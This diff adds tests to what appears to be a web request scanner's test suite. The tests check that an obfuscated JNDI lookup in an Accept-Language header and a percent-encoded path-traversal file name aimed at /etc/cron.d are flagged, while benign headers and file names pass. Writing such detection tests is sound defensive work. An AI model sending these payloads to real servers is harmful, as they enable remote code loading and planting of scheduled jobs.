@@ -305,6 +305,40 @@ describe("bodies", () => {
     expect(q("callback")).toContain("934190@query:callback");
   });
 
+  it("scans a structured header that holds what its grammar never has", () => {
+    const h = (name: string, value: string) =>
+      where(
+        req({
+          headers: [
+            ["host", "app.example"],
+            [name, value],
+          ],
+        }),
+      );
+    expect(h("accept-language", "${${lower:j}ndi:${lower:l}dap://x.oast.example/z}")).toContain(
+      "944150@header:accept-language",
+    );
+    expect(h("accept-language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5")).toEqual([]);
+    expect(h("if-none-match", 'W/"67ab43", "54ed21"')).toEqual([]);
+  });
+
+  it("reads an RFC 5987 file name (filename*=) as a file name", () => {
+    const mp = (disposition: string) =>
+      where(
+        req({
+          method: "POST",
+          body: body(
+            "multipart/form-data; boundary=XB",
+            `--XB\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XB--\r\n`,
+          ),
+        }),
+      );
+    expect(mp("filename*=UTF-8''..%2F..%2F..%2Fetc%2Fcron.d%2Fx")).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^930\d+@body:multipart\.file\.filename$/)]),
+    );
+    expect(mp("filename*=UTF-8''na%C3%AFve%20photo.png")).toEqual([]);
+  });
+
   it("flags methods no API serves", () => {
     for (const method of ["TRACE", "TRACK", "DEBUG"]) expect(where(req({ method }))).toContain("911100@method");
     expect(where(req({ method: "OPTIONS" }))).toEqual([]);
